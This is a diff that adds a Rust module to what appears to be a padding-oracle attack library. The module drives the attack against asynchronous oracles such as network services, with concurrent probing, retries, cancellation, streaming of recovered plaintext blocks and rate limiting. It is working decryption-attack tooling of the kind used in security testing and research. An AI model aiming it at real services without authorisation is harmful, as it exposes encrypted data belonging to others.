@@ -0,0 +1,493 @@
+//! The attack, for asynchronous oracles.
+
+use alloc::vec::Vec;
+use core::future::Future;
+use core::time::Duration;
+
+use futures_util::future::LocalBoxFuture;
+use futures_util::stream::{self, FuturesUnordered, Stream, StreamExt};
+use futures_util::FutureExt;
+
+use crate::oracle::answer;
+use crate::verify;
+use crate::{
+    BlockOrder, ByRef, Cancellation, DecryptOptions, Error, OracleResponse, PaddingOracleAttack,
+    Result,
+};
+
+/// Same as [decrypt_async], but up to `concurrency` probes are in flight at once.
+///
+/// See [PaddingOracleAttack::run_async_concurrent].
+///
+/// # Example
+/// ```
+/// # async fn send(_: Vec<u8>) -> bool { false }
+/// # let ciphertext = [0u8; 16];
+/// // Try 16 candidates at once
+/// let plaintext = padding_oracle::decrypt_async_concurrent(&ciphertext, 16, send, 16);
+/// # futures::executor::block_on(plaintext).unwrap();
+/// ```
+pub async fn decrypt_async_concurrent(
+    ciphertext: &[u8],
+    blocksize: usize,
+    oracle: impl AsyncPaddingOracle,
+    concurrency: usize,
+) -> Result<Vec<u8>> {
+    let mut attack = PaddingOracleAttack::new(ciphertext, blocksize)?;
+
+    attack
+        .run_async_concurrent(oracle, concurrency, || false)
+        .await?;
+    attack.finish()
+}
+
+/// An asynchronous [PaddingOracle](crate::PaddingOracle), such as a network service.
+///
+/// Closures taking the ciphertext and returning a future of a `bool` are oracles, so `async`
+/// blocks and functions can be used directly. That future may also resolve to a `Result<bool, E>`,
+/// see [OracleResponse]. The ciphertext is owned and the future can't borrow the oracle, hence the
+/// `use<>`, so several queries can be in flight at once.
+///
+/// # Example
+/// ```
+/// use std::future::Future;
+///
+/// use padding_oracle::AsyncPaddingOracle;
+///
+/// struct Client {
+///     endpoint: String,
+/// }
+///
+/// impl AsyncPaddingOracle for Client {
+///     type Response = bool;
+///
+///     fn query(&mut self, ciphertext: Vec<u8>) -> impl Future<Output = bool> + use<> {
+///         let endpoint = self.endpoint.clone();
+///
+///         async move {
+///             // Send the ciphertext to the endpoint
+///             # let _ = (endpoint, ciphertext);
+///             false
+///         }
+///     }
+/// }
+///
+/// # let ciphertext = [0u8; 32];
+/// let client = Client {
+///     endpoint: "https://example.com/decrypt".into(),
+/// };
+/// let plaintext = padding_oracle::decrypt_async(&ciphertext, 16, client);
+/// # futures::executor::block_on(plaintext).unwrap_err();
+/// ```
+pub trait AsyncPaddingOracle {
+    /// What the oracle answers, usually a `bool`.
+    type Response: OracleResponse;
+
+    /// Whether `ciphertext` decrypts to a valid padding.
+    fn query(&mut self, ciphertext: Vec<u8>) -> impl Future<Output = Self::Response> + use<Self>;
+
+    /// Borrow the oracle, to use it for an attack and keep it afterwards.
+    fn by_ref(&mut self) -> ByRef<'_, Self>
+    where
+        Self: Sized,
+    {
+        ByRef(self)
+    }
+}
+
+impl<'a, O: AsyncPaddingOracle> AsyncPaddingOracle for ByRef<'a, O> {
+    type Response = O::Response;
+
+    fn query(&mut self, ciphertext: Vec<u8>) -> impl Future<Output = O::Response> + use<'a, O> {
+        self.0.query(ciphertext)
+    }
+}
+
+impl<F, Fut> AsyncPaddingOracle for F
+where
+    F: FnMut(Vec<u8>) -> Fut,
+    Fut: Future,
+    Fut::Output: OracleResponse,
+{
+    type Response = Fut::Output;
+
+    fn query(&mut self, ciphertext: Vec<u8>) -> impl Future<Output = Fut::Output> + use<F, Fut> {
+        self(ciphertext)
+    }
+}
+
+/// Same as [decrypt](crate::decrypt), for asynchronous oracles such as network services.
+///
+/// This only ever awaits the futures returned by the oracle, so it works with any executor.
+///
+/// # Example
+/// ```
+/// # async fn send(_: Vec<u8>) -> bool { false }
+/// # let ciphertext = [0u8; 16];
+/// let plaintext = padding_oracle::decrypt_async(&ciphertext, 16, |probe| async move {
+///     // Send the probe to the oracle, with reqwest, hyper or anything else
+///     send(probe).await
+/// });
+/// # futures::executor::block_on(plaintext).unwrap();
+/// ```
+pub async fn decrypt_async(
+    ciphertext: &[u8],
+    blocksize: usize,
+    oracle: impl AsyncPaddingOracle,
+) -> Result<Vec<u8>> {
+    let mut attack = PaddingOracleAttack::new(ciphertext, blocksize)?;
+
+    attack.run_async(oracle, || false).await?;
+    attack.finish()
+}
+
+/// Same as [decrypt_async], but stops when `cancel` says so.
+///
+/// On cancellation, this returns [Error::Cancelled] with each block recovered so far and its index.
+/// To be able to pick up where the attack left off, use [PaddingOracleAttack::run_async] instead.
+///
+/// # Example
+/// ```
+/// # async fn send(_: Vec<u8>) -> bool { false }
+/// # let ciphertext = [0u8; 16];
+/// use std::sync::atomic::AtomicBool;
+///
+/// // Set this from a timeout or a Ctrl-C handler
+/// let cancelled = AtomicBool::new(false);
+///
+/// let plaintext = padding_oracle::decrypt_async_cancellable(&ciphertext, 16, send, &cancelled);
+/// # futures::executor::block_on(plaintext).unwrap();
+/// ```
+pub async fn decrypt_async_cancellable(
+    ciphertext: &[u8],
+    blocksize: usize,
+    oracle: impl AsyncPaddingOracle,
+    cancel: impl Cancellation,
+) -> Result<Vec<u8>> {
+    let mut attack = PaddingOracleAttack::new(ciphertext, blocksize)?;
+
+    attack.run_async(oracle, cancel).await?;
+    attack.finish()
+}
+
+/// Same as [decrypt_iter](crate::decrypt_iter), for asynchronous oracles: a stream of the
+/// plaintext blocks, from the first to the last, along with their index in the ciphertext.
+///
+/// See [PaddingOracleAttack::into_stream] to use custom options.
+///
+/// # Example
+/// ```
+/// # async fn send(_: Vec<u8>) -> bool { false }
+/// # let ciphertext = [0u8; 48];
+/// # futures::executor::block_on(async {
+/// use futures::StreamExt;
+///
+/// let mut blocks = std::pin::pin!(padding_oracle::decrypt_stream(&ciphertext, 16, send).unwrap());
+///
+/// while let Some(Ok((index, plaintext))) = blocks.next().await {
+///     println!("Block {index}: {plaintext:?}");
+/// }
+/// # });
+/// ```
+pub fn decrypt_stream<O: AsyncPaddingOracle>(
+    ciphertext: &[u8],
+    blocksize: usize,
+    oracle: O,
+) -> Result<impl Stream<Item = Result<(usize, Vec<u8>)>>> {
+    let options = DecryptOptions {
+        block_order: BlockOrder::Forward,
+        ..Default::default()
+    };
+
+    Ok(PaddingOracleAttack::with_options(ciphertext, blocksize, &options)?.into_stream(oracle))
+}
+
+impl PaddingOracleAttack {
+    /// Same as [into_blocks](Self::into_blocks), for asynchronous oracles.
+    ///
+    /// Dropping the stream stops the attack.
+    pub fn into_stream<O: AsyncPaddingOracle>(
+        self,
+        oracle: O,
+    ) -> impl Stream<Item = Result<(usize, Vec<u8>)>> {
+        let blocks = self.ciphertext().len() / self.blocksize();
+        let yielded = alloc::vec![false; blocks.saturating_sub(1)];
+
+        stream::unfold(
+            (Some(self), oracle, yielded),
+            |(mut attack, mut oracle, mut yielded)| async move {
+                let block = next_block(&mut attack, &mut oracle, &mut yielded).await?;
+                Some((block, (attack, oracle, yielded)))
+            },
+        )
+    }
+
+    /// Drive the attack with an asynchronous oracle until it is over or `cancel` says so.
+    ///
+    /// Cancellation is checked before sending each probe. When cancelled, this returns
+    /// [Error::Cancelled] with each block recovered so far and its index, and the attack can be
+    /// resumed by calling this again.
+    ///
+    /// This is also cancellation safe in the async sense: dropping the future only loses the
+    /// answer to the probe in flight, which is sent again when resuming.
+    pub async fn run_async(
+        &mut self,
+        mut oracle: impl AsyncPaddingOracle,
+        cancel: impl Cancellation,
+    ) -> Result<()> {
+        if verify::needs_precheck(self) {
+            precheck(self, &mut oracle).await?;
+        }
+
+        while let Some(probe) = self.next_probe() {
+            if cancel.is_cancelled() {
+                return Err(Error::Cancelled {
+                    partial: self.recovered_blocks(),
+                });
+            }
+
+            let valid = ask(&mut oracle, probe, self.options()).await?;
+            self.submit(valid);
+        }
+
+        Ok(())
+    }
+
+    /// Same as [run_async](Self::run_async), but up to `concurrency` probes are in flight at once.
+    ///
+    /// The candidates for each byte are tried concurrently, along with the double checks of the
+    /// valid ones. Once a candidate is confirmed, the queries still in flight are dropped, which
+    /// cancels them. This only needs the futures returned by the oracle to be polled together,
+    /// so no task is spawned and any executor works.
+    ///
+    /// More queries than with [run_async](Self::run_async) may be sent, although never more than
+    /// the [query budget](crate::DecryptOptions::max_queries). The dropped ones are counted in
+    /// the [stats](Self::stats) as well, since they may have reached the oracle. A failed or
+    /// inconclusive query is sent again, up to
+    /// [DecryptOptions::retries](crate::DecryptOptions::retries) times, while the others stay
+    /// in flight.
+    pub async fn run_async_concurrent<O: AsyncPaddingOracle>(
+        &mut self,
+        mut oracle: O,
+        concurrency: usize,
+        cancel: impl Cancellation,
+    ) -> Result<()> {
+        let concurrency = concurrency.max(1);
+        let retries = self.options().retries;
+
+        if verify::needs_precheck(self) {
+            precheck(self, &mut oracle).await?;
+        }
+
+        while let Some(probe) = self.next_probe() {
+            if cancel.is_cancelled() {
+                return Err(Error::Cancelled {
+                    partial: self.recovered_blocks(),
+                });
+            }
+
+            if !self.is_searching() {
+                let valid = ask(&mut oracle, probe, self.options()).await?;
+                self.submit(valid);
+                continue;
+            }
+
+            let verify = self.needs_verification();
+            let mut candidates = self.remaining_candidates().into_iter();
+
+            let mut in_flight = FuturesUnordered::new();
+            let mut false_positives = 0;
+            let mut found = None;
+
+            // The queries sent for this byte, and whether the limits stopped one from being sent
+            let (mut sent, mut limited) = (0, false);
+
+            loop {
+                while in_flight.len() < concurrency {
+                    if self.queries_left(sent) == Some(0) {
+                        limited = true;
+                        break;
+                    }
+
+                    let Some(candidate) = candidates.next() else {
+                        break;
+                    };
+
+                    sent += 1;
+                    in_flight.push(self.send(&mut oracle, candidate, false, retries));
+                }
+
+                let Some((candidate, verifying, retries_left, answer)) = in_flight.next().await
+                else {
+                    break;
+                };
+
+                let valid = match answer {
+                    Ok(valid) => valid,
+                    Err(_) if retries_left > 0 => {
+                        let retry = self.send(&mut oracle, candidate, verifying, retries_left - 1);
+                        in_flight.push(retry);
+                        continue;
+                    }
+                    Err(e) => return Err(e),
+                };
+
+                if !valid {
+                    false_positives += usize::from(verifying);
+                    continue;
+                }
+
+                if verifying || !verify {
+                    found = Some(candidate);
+                    break;
+                }
+
+                if self.queries_left(sent) == Some(0) {
+                    limited = true;
+                    continue;
+                }
+
+                sent += 1;
+                in_flight.push(self.send(&mut oracle, candidate, true, retries));
+            }
+
+            if found.is_none() && limited {
+                self.interrupt(sent, false_positives);
+            } else {
+                self.resolve(found, sent, false_positives);
+            }
+        }
+
+        Ok(())
+    }
+
+    /// Query the oracle for a candidate, tagging the answer with it
+    fn send<'o, O: AsyncPaddingOracle + 'o>(
+        &self,
+        oracle: &mut O,
+        candidate: u8,
+        verifying: bool,
+        retries: usize,
+    ) -> LocalBoxFuture<'o, (u8, bool, usize, Result<bool>)> {
+        let probe = self
+            .probe_for(candidate, verifying)
+            .expect("the attack is running");
+
+        // Reserve the slot now, so concurrent queries are spread out in the order they are made
+        let delay = reserve(self.options());
+        let query = oracle.query(probe);
+
+        async move {
+            pause(delay).await;
+            (candidate, verifying, retries, answer(query.await))
+        }
+        .boxed_local()
+    }
+}
+
+/// Attack the next block and return its plaintext, as with [Blocks](crate::Blocks)
+async fn next_block(
+    attack: &mut Option<PaddingOracleAttack>,
+    oracle: &mut impl AsyncPaddingOracle,
+    yielded: &mut [bool],
+) -> Option<Result<(usize, Vec<u8>)>> {
+    loop {
+        let running = attack.as_mut()?;
+        let current = running.current_block();
+
+        // Yield the blocks which were filled without attacking them, before the attacked ones
+        // after them
+        if let Some(i) = (0..yielded.len()).find(|&i| {
+            !yielded[i]
+                && current.is_none_or(|block| i + 1 < block)
+                && running.plaintext_block(i + 1).is_some()
+        }) {
+            yielded[i] = true;
+            return Some(Ok((i + 1, running.plaintext_block(i + 1)?)));
+        }
+
+        let Some(block) = current else {
+            return attack.take()?.finish().err().map(Err);
+        };
+
+        if verify::needs_precheck(running) {
+            if let Err(e) = precheck(running, oracle).await {
+                *attack = None;
+                return Some(Err(e));
+            }
+        }
+
+        while running.current_block() == Some(block) {
+            let probe = running.next_probe()?;
+
+            match ask(oracle, probe, running.options()).await {
+                Ok(valid) => running.submit(valid),
+                Err(e) => {
+                    *attack = None;
+                    return Some(Err(e));
+                }
+            }
+        }
+
+        if let Some(plaintext) = running.plaintext_block(block) {
+            yielded[block - 1] = true;
+            return Some(Ok((block, plaintext)));
+        }
+    }
+}
+
+/// The checks of [DecryptOptions::precheck], for asynchronous oracles
+async fn precheck(
+    attack: &PaddingOracleAttack,
+    oracle: &mut impl AsyncPaddingOracle,
+) -> Result<()> {
+    for mut check in verify::precheck_probes(attack)? {
+        let probe = core::mem::take(&mut check.probe);
+        check.expect(answer(oracle.query(probe).await)?)?;
+    }
+
+    Ok(())
+}
+
+/// Send a probe to the oracle, retrying it if the oracle fails or is inconclusive
+async fn ask(
+    oracle: &mut impl AsyncPaddingOracle,
+    probe: Vec<u8>,
+    options: &DecryptOptions,
+) -> Result<bool> {
+    let mut retries = options.retries;
+
+    loop {
+        pause(reserve(options)).await;
+
+        match answer(oracle.query(probe.clone()).await) {
+            Err(_) if retries > 0 => retries -= 1,
+            answer => return answer,
+        }
+    }
+}
+
+/// Reserve a slot from the [rate limiter](DecryptOptions::rate_limiter), and return how long to
+/// wait for it
+fn reserve(options: &DecryptOptions) -> Duration {
+    #[cfg(feature = "std")]
+    if let Some(limiter) = &options.rate_limiter {
+        return limiter.reserve();
+    }
+
+    #[cfg(not(feature = "std"))]
+    let _ = options;
+
+    Duration::ZERO
+}
+
+/// Wait for a slot reserved from the rate limiter, without blocking the executor
+async fn pause(delay: Duration) {
+    #[cfg(feature = "std")]
+    if !delay.is_zero() {
+        crate::rate_limit::sleep(delay).await;
+    }
+
+    #[cfg(not(feature = "std"))]
+    let _ = delay;
+}